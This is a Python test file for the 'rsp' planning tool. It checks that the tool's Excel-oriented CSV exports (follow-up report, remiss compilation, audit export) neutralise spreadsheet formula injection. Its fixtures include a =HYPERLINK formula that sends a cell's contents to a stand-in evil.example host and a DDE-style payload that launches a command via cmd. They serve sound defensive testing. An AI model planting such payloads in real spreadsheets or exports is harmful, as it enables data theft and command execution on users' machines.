"""Every CSV rsp writes keeps what people typed as text: a body, measure or comment that
starts like a formula (`= + - @`, tab, CR) is not a formula in a spreadsheet. The
follow-up report (it goes to Tillväxtverket) and the remiss compilation are CSV for
Swedish Excel: `;`-separated UTF-8 with a byte-order mark; the audit export is plain
CSV for machines. Through the real `rsp` command."""

from __future__ import annotations

import csv
import io

from process.access.audit import restore
from tests.e2e.test_html_escaping import PLAN, ok

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
CELLS = {
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "subgoal": "+1+1",
    "comment": "-2+3",
    "body": HYPERLINK,
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "no byte-order mark: Excel would guess the encoding"
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_formula_cells_are_text_in_every_csv(tmp_path):
    db = str(tmp_path / "rsp.db")
    ok("init", "--example", "jamtland-harjedalen", "--replay", db=db, now="2023-12-01")
    ok(
        "people",
        "add",
        "processledare",
        "--name",
        "Maria",
        "--email",
        "maria@region.example",
        "--role",
        "working_group",
        db=db,
    )
    ok(
        "bodies",
        "add",
        "elak",
        "--name",
        CELLS["body"],
        "--kind",
        "municipality",
        "--email",
        "elak@kommun.example",
        db=db,
        user="processledare",
    )
    plan = tmp_path / "plan-2024.yaml"
    plan.write_text(
        PLAN.replace(
            "\"Insats <script>alert('rsp')</script>\"", repr(CELLS["title"]).replace("\\'", "''")
        ).replace("\"Delmål <script>alert('rsp')</script>\"", f'"{CELLS["subgoal"]}"'),
        encoding="utf-8",
    )
    ok("plan", "import", str(plan), "--year", "2024", db=db, user="processledare")
    ok(
        "followup",
        "record",
        "1.A",
        "--year",
        "2024",
        "--outcome",
        "partly",
        "--comment",
        CELLS["comment"],
        db=db,
        user="processledare",
        now="2024-12-20",
    )

    out = tmp_path / "followup.csv"
    ok("followup", "report", "--year", "2024", "--format", "csv", "--out", str(out), db=db)
    rows = spreadsheet_rows(out.read_text(encoding="utf-8"))
    no_formula(rows)
    heads, measure = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert heads[:3] == ["År", "Prioriterat område", "Områdets namn"]
    assert [restore(measure[k]) for k in ("Titel", "Delmål", "Kommentar")] == [
        CELLS["title"],
        CELLS["subgoal"],
        CELLS["comment"],
    ]
    assert measure["Titel"] == "'" + CELLS["title"]  # what Excel shows as text

    audit = tmp_path / "audit.csv"
    ok("audit", "export", "--format", "csv", "--out", str(audit), db=db)
    exported = list(csv.DictReader(audit.open(encoding="utf-8", newline="")))
    no_formula([list(row.values()) for row in exported])
    assert [row["comment"] for row in exported if restore(row["comment"]) == "-2+3"] == ["'-2+3"]


def test_the_remiss_compilation_csv_is_for_excel_and_defused():
    from process.reports import remiss_compilation, template_samples

    data = template_samples.remiss_data("sv")
    data["bodies"][0].update(name=HYPERLINK, summary="\tTab först")
    rows = spreadsheet_rows(remiss_compilation.render(data, "csv"))
    no_formula(rows)
    assert rows[0][:2] == ["Nyckel", "Remissinstans"]
    assert [restore(rows[1][1]), restore(rows[1][5])] == [HYPERLINK, "\tTab först"]
